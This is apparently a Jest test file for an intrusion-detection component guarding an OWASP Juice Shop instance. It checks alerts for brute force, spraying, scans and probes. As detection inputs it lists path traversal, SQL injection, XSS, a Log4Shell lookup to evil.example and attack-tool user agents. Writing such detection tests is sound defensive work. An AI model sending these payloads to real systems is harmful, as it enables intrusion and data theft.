import type { CollectedRecord } from '../../src/collector/record';
import { type Alert, createDetector, defaultDetectionConfig, type Detector } from '../../src/detect';
import { hasUnsafeChars } from '../../src/sanitize';
import { ManualClock, Traffic } from './traffic';

const SECOND = 1000;

function setup(): { clock: ManualClock; traffic: Traffic; detector: Detector; alerts: Alert[]; feed: (record: CollectedRecord) => Alert[] } {
  const clock = new ManualClock();
  const traffic = new Traffic(clock);
  const detector = createDetector(defaultDetectionConfig(), { now: clock.now });
  const alerts: Alert[] = [];
  detector.on('alert', (alert) => alerts.push(alert));
  return { clock, traffic, detector, alerts, feed: (record) => detector.onRecord(record) };
}

function rulesOf(alerts: Alert[]): string[] {
  return alerts.map((alert) => alert.ruleId);
}

describe('default rules fire on their pattern', () => {
  it('brute force: 5 failed logins on one account within 60 s -> authn_login_fail_max, keyed by account', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 4; i++) {
      expect(feed(traffic.loginFail('203.0.113.9', 'admin@juice-sh.op'))).toEqual([]);
      clock.advance(10 * SECOND);
    }
    const opened = feed(traffic.loginFail('203.0.113.9', 'admin@juice-sh.op'));
    expect(opened).toHaveLength(1);
    const alert = opened[0];
    expect(alert).toMatchObject({ ruleId: 'brute_force_account', type: 'authn_login_fail_max', severity: 2, level: 'CRITICAL', count: 5, state: 'open', revision: 0 });
    expect(alert.key).toMatchObject({ kind: 'account', emailId: traffic.source.identify('admin@juice-sh.op').emailId, emailMasked: 'a**@juice-sh.op' });
    expect(alert.records.map((ref) => ref.recordId)).toEqual([1, 2, 3, 4, 5]);
    expect(alert.records.map((ref) => ref.seq)).toEqual([1, 2, 3, 4, 5]);
    expect(alert.firstAt).toBe(new Date(clock.ms).toISOString());
    expect(alert.summary).toContain('5 authn_login_fail for account a**@juice-sh.op, threshold 5 in 60 s');
    expect(rulesOf(alerts)).toEqual(['brute_force_account']);
  });

  it('brute force: 5 failures spread over more than 60 s do not fire', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 5; i++) {
      feed(traffic.loginFail('203.0.113.9', 'jim@juice-sh.op'));
      clock.advance(16 * SECOND);
    }
    expect(alerts).toEqual([]);
  });

  it('password spraying: failures on 10 distinct accounts from one address within 60 s', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 9; i++) {
      feed(traffic.loginFail('198.51.100.23', `user${i}@juice-sh.op`));
      clock.advance(2 * SECOND);
    }
    // Repeating an account already tried does not make it distinct.
    feed(traffic.loginFail('198.51.100.23', 'user0@juice-sh.op'));
    expect(alerts).toEqual([]);
    feed(traffic.loginFail('198.51.100.23', 'user9@juice-sh.op'));
    expect(rulesOf(alerts)).toEqual(['password_spray_ip']);
    expect(alerts[0]).toMatchObject({ type: 'authn_password_spray', key: { kind: 'ip', ip: '198.51.100.23' }, count: 10 });
    expect(alerts[0].records).toHaveLength(10);
  });

  it('success after failures: a login within 240 s after 5 failures on that account (Wazuh 40112)', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 5; i++) {
      feed(traffic.loginFail('203.0.113.50', 'bender@juice-sh.op'));
      clock.advance(30 * SECOND);
    }
    // The failures also trip the brute-force rule on the way; the success is what this test is about.
    alerts.length = 0;
    clock.advance(60 * SECOND);
    const opened = feed(traffic.loginSuccess('203.0.113.50', 'bender@juice-sh.op', '3'));
    expect(rulesOf(opened)).toEqual(['login_success_after_failures']);
    expect(opened[0]).toMatchObject({ type: 'authn_login_successafterfail', count: 6, key: { kind: 'account', emailMasked: 'b**@juice-sh.op' } });
    expect(opened[0].records.map((ref) => ref.recordId)).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it('success after failures: not when the failures are older than 240 s, nor after a couple of typos', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 5; i++) {
      feed(traffic.loginFail('203.0.113.50', 'bender@juice-sh.op'));
      clock.advance(61 * SECOND);
    }
    clock.advance(5 * SECOND);
    feed(traffic.loginSuccess('203.0.113.50', 'bender@juice-sh.op', '3'));
    feed(traffic.loginFail('192.0.2.4', 'jim@juice-sh.op'));
    feed(traffic.loginFail('192.0.2.4', 'jim@juice-sh.op'));
    feed(traffic.loginSuccess('192.0.2.4', 'jim@juice-sh.op', '2'));
    expect(alerts).toEqual([]);
  });

  it.each([
    ['malicious_sqli', { type: 'malicious_sqli', outcome: 'blocked', detail: { field: 'email' } }],
    ['malicious_direct_reference', { type: 'malicious_direct_reference', outcome: 'blocked', who: { userId: '1' } }],
    ['malicious_attack_tool', { type: 'malicious_attack_tool', outcome: 'info' }],
    ['authn_token_invalid', { type: 'authn_token_invalid', outcome: 'failure', reason: 'alg_none' }],
  ] as const)('any %s alerts at once', (type, input) => {
    const { traffic, feed } = setup();
    const record = traffic.record({
      ...input,
      who: { ip: '203.0.113.66', ...('who' in input ? input.who : {}) },
      where: { method: 'GET', url: '/rest/basket/2', requestId: 'r1', status: 401 },
    });
    const opened = feed(record);
    expect(opened).toHaveLength(1);
    expect(opened[0]).toMatchObject({ ruleId: 'malicious_request', type, key: { kind: 'ip', ip: '203.0.113.66' }, count: 1 });
    expect(opened[0].title).toBe(`Malicious request: ${type}`);
  });

  it('authz_fail on a basket alerts at once, keyed by the account; authz_fail elsewhere does not', () => {
    const { traffic, feed, alerts } = setup();
    feed(
      traffic.record({
        type: 'authz_fail',
        outcome: 'blocked',
        who: { ip: '192.0.2.10', userId: '1' },
        where: { method: 'GET', route: '/rest/basket/:id', url: '/rest/basket/2', requestId: 'r1', status: 200 },
      }),
    );
    feed(
      traffic.record({
        type: 'authz_fail',
        outcome: 'blocked',
        who: { ip: '192.0.2.10', userId: '1' },
        where: { method: 'GET', route: '/api/Users/:id', url: '/api/Users/2', requestId: 'r2', status: 401 },
      }),
    );
    feed(
      traffic.record({
        type: 'authz_fail',
        outcome: 'blocked',
        who: { ip: '192.0.2.10', userId: '1' },
        where: { method: 'POST', url: '/api/BasketItems/', requestId: 'r3', status: 401 },
      }),
    );
    expect(rulesOf(alerts)).toEqual(['authz_fail_basket']);
    expect(alerts[0]).toMatchObject({ type: 'authz_fail', key: { kind: 'account', value: 'user:1', userId: '1' } });
    expect(detectorCount(alerts[0])).toBe(1);
  });

  it('any sensitive_read alerts at once', () => {
    const { traffic, feed } = setup();
    const opened = feed(
      traffic.record({ type: 'sensitive_read', outcome: 'success', who: { ip: '203.0.113.7' }, where: { method: 'GET', url: '/support/logs/access.log.2026-01-15', requestId: 'r1', status: 200 } }),
    );
    expect(opened).toMatchObject([{ ruleId: 'sensitive_read', type: 'sensitive_read', key: { ip: '203.0.113.7' } }]);
    expect(opened[0].summary).toContain('/support/logs/access.log.2026-01-15');
  });

  it('an account lock reported by the application alerts at once', () => {
    const { traffic, feed } = setup();
    const opened = feed(
      traffic.record({ type: 'authn_login_fail_max', outcome: 'blocked', email: 'jim@juice-sh.op', who: { ip: '203.0.113.7' }, where: { method: 'POST', url: '/rest/user/login', requestId: 'r1', status: 401 } }),
    );
    expect(rulesOf(opened)).toEqual(['account_locked_reported']);
  });

  it('scanning: 14 4xx answers to one address within 90 s (Wazuh 31151), not 13', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 13; i++) {
      feed(traffic.request('203.0.113.80', 'GET', `/page-${i}`, 404));
      clock.advance(6 * SECOND);
    }
    expect(alerts).toEqual([]);
    feed(traffic.request('203.0.113.80', 'GET', '/page-13', 403));
    expect(rulesOf(alerts)).toEqual(['web_scan_4xx']);
    expect(alerts[0]).toMatchObject({ type: 'malicious_excess_404', count: 14, key: { ip: '203.0.113.80' } });
  });

  it.each([
    '/.env',
    '/.git/config',
    '/WEB-INF/web.xml',
    '/ftp/..%2f..%2fetc%2fpasswd',
    '/%252e%252e%252fetc/passwd',
    '/wp-admin/setup-config.php',
    '/phpmyadmin/index.php',
    '/.DS_Store',
    '/server-status',
    '/assets/../../../../etc/passwd',
  ])('probe path %s alerts at once, whatever the user agent (ZAP announces nothing)', (url) => {
    const { traffic, feed } = setup();
    const opened = feed(traffic.request('203.0.113.81', 'GET', url, 404));
    expect(rulesOf(opened)).toEqual(['web_probe_path']);
    expect(opened[0].summary).toContain('url matched');
  });

  it.each([
    '/rest/products/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    "/rest/products/search?q=' OR '1'='1",
    '/rest/products/search?q=%27%20OR%20%271%27%3D%271',
    '/rest/products/search?q=apple))%20UNION%20SELECT%20id,email,password%20FROM%20Users--',
    '/rest/products/search?q=x%27))%20union/**/select%201--',
    '/api/Products?q=${jndi:ldap://evil.example/a}',
    '/rest/products/search?q=%3Ciframe%20src%3D%22javascript:alert(%60xss%60)%22%3E',
  ])('payload marker in %s alerts at once', (url) => {
    const { traffic, feed } = setup();
    const opened = feed(traffic.request('203.0.113.82', 'GET', url, 200));
    expect(rulesOf(opened)).toEqual(['web_payload_marker']);
    expect(opened[0].type).toBe('malicious_payload');
  });

  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)',
    'Mozilla/5.0 (Hydra)',
    'gobuster/3.6',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'Wfuzz/3.1.0',
    'Fuzz Faster U Fool v2.1.0 (ffuf)',
  ])('tool agent %s alerts at once', (agent) => {
    const { traffic, feed } = setup();
    const opened = feed(traffic.request('203.0.113.83', 'GET', '/', 200, agent));
    expect(rulesOf(opened)).toEqual(['web_attack_tool']);
    expect(opened[0].summary).toContain('agent matched');
  });

  it('error burst: 14 5xx within 120 s for one address', () => {
    const { clock, traffic, feed, alerts } = setup();
    for (let i = 0; i < 14; i++) {
      feed(traffic.request('203.0.113.84', 'GET', `/rest/products/search?q=x${i}`, 500));
      clock.advance(8 * SECOND);
    }
    expect(rulesOf(alerts)).toEqual(['error_burst_5xx']);
    expect(alerts[0]).toMatchObject({ type: 'sys_error_burst', count: 14 });
  });

  it('a source reporting sys_monitor_disabled alerts at once, keyed by the source', () => {
    const { traffic, feed } = setup();
    const opened = feed(traffic.record({ type: 'sys_monitor_disabled', outcome: 'failure', reason: 'spool_full' }));
    expect(opened).toMatchObject([{ ruleId: 'monitor_disabled_reported', type: 'sys_monitor_disabled', key: { kind: 'source', host: 'shop-1', instance: traffic.source.instance } }]);
  });

  it('raw RFC 3164 records get the payload-marker and tool-agent checks on their text', () => {
    const { traffic, feed, alerts } = setup();
    feed(traffic.raw('juice-shop: info: 203.0.113.90 GET /rest/products/search?q=<script>alert(1)</script> 200'));
    feed(traffic.raw('juice-shop: info: 203.0.113.91 GET / 200 "sqlmap/1.7.2#stable (https://sqlmap.org)"'));
    feed(traffic.raw('juice-shop: info: 10.0.0.5 GET /rest/products/search?q=apple 200 "Mozilla/5.0"'));
    feed(traffic.raw('\u0000\u00ff binary junk \u001b[31m with no marker', 'raw'));
    expect(rulesOf(alerts)).toEqual(['web_payload_marker', 'web_attack_tool']);
    expect(alerts[0].key).toMatchObject({ kind: 'ip', ip: '203.0.113.90' });
    expect(alerts[1].key).toMatchObject({ kind: 'ip', ip: '203.0.113.91' });
  });

  it('record text in an alert is neutralised: a forged line cannot reach the summary raw', () => {
    const { traffic, feed } = setup();
    const opened = feed(traffic.raw('x <script>\n<13>1 2026-01-15T09:00:00Z forged - - - - all fine\u2028\u001b[2J'));
    expect(opened).toHaveLength(1);
    expect(hasUnsafeChars(opened[0].summary)).toBe(false);
    expect(opened[0].summary).toContain('\\n<13>1');
    expect(hasUnsafeChars(JSON.stringify(opened[0].key))).toBe(false);
  });
});

function detectorCount(alert: Alert): number {
  return alert.count;
}

describe('normal traffic raises nothing', () => {
  it('a realistic benign mix over 30 minutes: logins, typos, favicon 404s, browsing, orders, heartbeats', () => {
    const { clock, traffic, detector, feed } = setup();
    const changes: string[] = [];
    detector.subscribe((change) => changes.push(`${change.kind} ${change.alert.ruleId}`));
    const users = Array.from({ length: 25 }, (_, i) => ({ email: `customer${i}@example.com`, id: String(100 + i), ip: `192.0.2.${10 + i}` }));
    // Three customers share an office NAT address.
    users[0].ip = users[1].ip = users[2].ip = '198.51.100.200';
    const pages = ['/', '/rest/products/search?q=', '/api/Quantitys/', '/rest/languages', '/rest/admin/application-version', '/api/Challenges/?name=Score%20Board', '/assets/public/images/products/apple_juice.jpg', '/socket.io/?EIO=4&transport=polling&t=P1a2b3c', '/rest/products/search?q=banana%20juice', '/rest/products/1/reviews'];
    let heartbeatAt = clock.ms;
    feed(traffic.heartbeat(60 * SECOND));
    for (let minute = 0; minute < 30; minute++) {
      for (const [index, user] of users.entries()) {
        if ((minute + index) % 6 !== 0) continue;
        // Session: landing, favicon 404, a couple of typos now and then, login, browse, basket, order.
        feed(traffic.request(user.ip, 'GET', '/', 200));
        feed(traffic.request(user.ip, 'GET', '/favicon.ico', 404));
        clock.advance(2 * SECOND);
        if (index % 4 === 0) {
          feed(traffic.loginFail(user.ip, user.email));
          clock.advance(4 * SECOND);
          feed(traffic.loginFail(user.ip, user.email));
          clock.advance(4 * SECOND);
        }
        feed(traffic.loginSuccess(user.ip, user.email, user.id));
        for (const page of pages) {
          feed(traffic.request(user.ip, 'GET', page, 200));
          clock.advance(500);
        }
        feed(traffic.request(user.ip, 'GET', `/rest/basket/${user.id}`, 200));
        feed(traffic.request(user.ip, 'GET', '/assets/i18n/xx_XX.json', 404));
        feed(traffic.record({ type: 'order_placed', outcome: 'success', who: { ip: user.ip, userId: user.id }, where: { method: 'POST', url: `/rest/basket/${user.id}/checkout`, requestId: `o${minute}-${index}`, status: 200 } }));
        clock.advance(SECOND);
      }
      // A glitch: two 500s from the app in this minute.
      if (minute % 10 === 5) {
        feed(traffic.request(users[3].ip, 'GET', '/rest/products/search?q=%27', 500));
        feed(traffic.request(users[4].ip, 'GET', '/api/Deliverys/', 500));
      }
      while (clock.ms - heartbeatAt >= 60 * SECOND) {
        heartbeatAt += 60 * SECOND;
        feed(traffic.heartbeat(60 * SECOND));
      }
      clock.ms = Math.max(clock.ms, heartbeatAt);
      detector.tick();
    }
    expect(changes).toEqual([]);
    expect(detector.stats().records).toBeGreaterThan(1000);
  });
});
